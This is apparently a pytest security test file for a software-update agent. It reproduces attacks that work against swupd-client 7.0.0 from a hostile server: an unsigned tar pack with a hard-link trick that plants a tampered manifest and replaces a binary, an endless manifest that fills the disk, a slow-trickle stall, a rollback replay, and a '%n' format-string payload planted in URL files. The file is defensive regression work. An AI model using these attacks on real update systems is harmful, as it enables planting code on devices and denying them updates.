"""Attacks that work against swupd-client 7.0.0 today, and this agent under the same ones.

The attacker has the server and no key. SWUPD_CLIENT names swupd-client 7.0.0.
"""

from __future__ import annotations

import io
import os
import subprocess
import tarfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from swupd import hashing, manifest, stream, tree
from swupd.agent import source
from swupd.manifest import MOM
from swupd.server import archiver, signing
from tests.agent.devices import Done
from tests.trust.conftest import Clock
from tests.trust.simulator import DAY, ENDLESS, NOW, TRICKLE, Attacker, Simulator, Trusting, publisher, serving

CLIENT = os.environ.get("SWUPD_CLIENT", "")
pytestmark = pytest.mark.skipif(not CLIENT, reason="SWUPD_CLIENT does not name swupd-client 7.0.0")
EVIL = b"#!/bin/sh\necho evil\n"


class Theirs:
    """A device with swupd-client 7.0.0."""

    def __init__(self, base: Path, url: str, certificate: Path) -> None:
        self.root, self.state = base / "theirs", base / "their-state"
        self._options = ["--url", url, "--format", "30", "--certpath", str(certificate), "--statedir", str(self.state)]

    def line(self, command: str, *words: str) -> list[str]:
        place = [str(self.root)] if command == "os-install" else ["--path", str(self.root)]
        more = ["--ignore-time", "--no-scripts", "--no-boot-update", "--no-progress", "--allow-insecure-http"]
        return [CLIENT, command, *place, *self._options, *more, "--max-retries", "0", *words]

    def run(self, command: str, *words: str) -> Done:
        done = subprocess.run(self.line(command, *words), check=False, capture_output=True, text=True, errors="replace")
        return Done(done.returncode, done.stdout, done.stderr)


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Simulator:
    made = publisher(tmp_path_factory.mktemp("both"))
    for version in (10, 20):
        made.release(version)
    return made


@pytest.fixture
def attacker(published: Simulator) -> Iterator[Attacker]:
    with serving(published.www) as made:
        yield made


@pytest.fixture
def both(published: Simulator, attacker: Attacker, tmp_path: Path) -> tuple[Theirs, Trusting]:
    """The same release 10 on two devices."""
    theirs = Theirs(tmp_path, attacker.url, published.base / "keys/release.pem")
    ours = Trusting(tmp_path, attacker.url, None, root_file=published.root_file)
    words = ("--version", "10", "--bundles", "os-core")
    published.put_head(published.head(10))
    assert theirs.run("os-install", *words).code == 0
    ours.ok("os-install", *words)
    published.put_head(published.head(20))
    attacker.relent()
    return theirs, ours


def test_an_unsigned_pack_plants_a_manifest(attacker: Attacker, published: Simulator, tmp_path: Path) -> None:
    theirs = Theirs(tmp_path, attacker.url, published.base / "keys/release.pem")
    ours = Trusting(tmp_path, attacker.url, None, root_file=published.root_file)
    genuine = manifest.parse(published.read(stream.manifest(10, "os-core")), "os-core")
    digest = next(e.digest for e in manifest.parse(published.mom(10), MOM).entries if e.name == "os-core")
    mine = next(e for e in genuine.entries if e.name == "/usr/bin/hello")
    node = tree.file_node("/usr/bin/hello", 0o755, len(EVIL))
    mac = hashing.hasher(node)
    mac.update(EVIL)
    evil = published.read(stream.manifest(10, "os-core")).replace(mine.digest.encode(), mac.hexdigest().encode())
    to = io.BytesIO()
    with tarfile.open(fileobj=to, mode="w") as made:
        member = tarfile.TarInfo("manifest/10/Manifest.os-core")
        member.size = len(evil)
        made.addfile(member, io.BytesIO(evil))
        link = tarfile.TarInfo(f"manifest/10/Manifest.os-core.{digest}")
        link.type, link.linkname = tarfile.LNKTYPE, "manifest/10/Manifest.os-core"
        made.addfile(link)
    attacker.answers(stream.pack("os-core", 10, 0), to.getvalue())
    attacker.answers(stream.fullfile(10, mac.hexdigest()), archiver.fullfile(mac.hexdigest(), node, EVIL))
    theirs.run("os-install", "--version", "10")
    theirs.run("repair")
    assert (theirs.root / "usr/bin/hello").read_bytes() == EVIL, "the attack works there"
    ours.ok("os-install", "--version", "10")
    ours.ok("repair")
    assert b"evil" not in (ours.root / "usr/bin/hello").read_bytes()
    assert ours.ok("diagnose").code == 0


def test_an_endless_mom(both: tuple[Theirs, Trusting], attacker: Attacker) -> None:
    theirs, ours = both
    attacker.tampering.append(lambda name, data: ENDLESS if "20/Manifest.MoM" in name else data)
    running = subprocess.Popen(theirs.line("update"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        with pytest.raises(subprocess.TimeoutExpired):
            running.wait(5)
    finally:
        running.kill()
        running.wait()
    taken = sum(f.stat().st_size for f in theirs.state.rglob("*") if f.is_file())
    assert taken > 100 << 20, "it takes whatever comes"
    done = ours.run("update")
    assert done.code != 0 and "larger than" in done.err
    assert sum(f.stat().st_size for f in ours.state.rglob("*") if f.is_file()) < 1 << 20


def test_a_trickle(both: tuple[Theirs, Trusting], attacker: Attacker, monkeypatch: pytest.MonkeyPatch) -> None:
    theirs, ours = both
    attacker.tampering.append(lambda name, data: TRICKLE if "20/Manifest.MoM" in name else data)
    running = subprocess.Popen(theirs.line("update"), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        with pytest.raises(subprocess.TimeoutExpired):
            running.wait(20)
    finally:
        running.kill()
        running.wait()
    monkeypatch.setattr(source.Transport.__new__, "__defaults__", _with_grace(2.0))
    begin = time.monotonic()
    done = ours.run("update", "--max-retries", "0")
    assert done.code != 0 and "too slowly" in done.err
    assert time.monotonic() - begin < 20


def _with_grace(seconds: float) -> tuple[object, ...]:
    """The defaults of Transport, with another time for which a slow start is forgiven."""
    defaults = source.Transport.__new__.__defaults__ or ()
    return tuple(seconds if value == source.GRACE_SECONDS else value for value in defaults)


def test_an_old_latest_is_shown_for_ever(
    both: tuple[Theirs, Trusting], attacker: Attacker, published: Simulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    theirs, ours = both
    signer = published.keys.release
    old = {
        name: data
        for place in (stream.latest(30), stream.LATEST_VERSION)
        for name, data in ((place, b"10"), (stream.signature(place), signing.sign(b"10", signer)))
    }
    for name, data in old.items():
        attacker.answers(name, data)
    attacker.answers(stream.head(30), published.signed_head(published.head(10)))
    done = theirs.run("update")
    assert done.code == 0 and "up-to-date" in done.out.lower() + done.err.lower(), "for as long as the attacker likes"
    monkeypatch.setattr("swupd.agent.session.clock", Clock(NOW + 15 * DAY))
    done = ours.run("update")
    assert done.code == 62 and "nobody has vouched" in done.err
    attacker.relent()
    monkeypatch.setattr("swupd.agent.session.clock", Clock(NOW))
    ours.ok("update")
    for name, data in old.items():
        attacker.answers(name, data)
    attacker.answers(stream.head(30), published.signed_head(published.head(10)))
    assert ours.run("update").code == 63


def test_a_percent_sign_in_a_url_file(both: tuple[Theirs, Trusting], attacker: Attacker) -> None:
    theirs, ours = both
    for root in (theirs.root, ours.root):
        folder = root / "usr/share/defaults/swupd"
        for name in ("versionurl", "contenturl"):
            (folder / name).write_text(f"{attacker.url}/%s%s%s%s%s%n%n")
    line = [w for w in theirs.line("check-update") if w not in {"--url", attacker.url}]
    crashed = subprocess.run(line, check=False, capture_output=True)
    assert crashed.returncode < 0 or b"%s" not in crashed.stdout + crashed.stderr, "read as a format"
    from tests.agent.devices import agent  # noqa: PLC0415

    words = [w for w in ours.options() if w not in {"--url", attacker.url}]
    done = agent("check-update", "--path", str(ours.root), *words, "--max-retries", "0")
    assert done.code in {16, 61}, done
    assert "Traceback" not in done.err
    assert "%s%s%s%s%s%n%n" in done.err or "%25s" in done.err
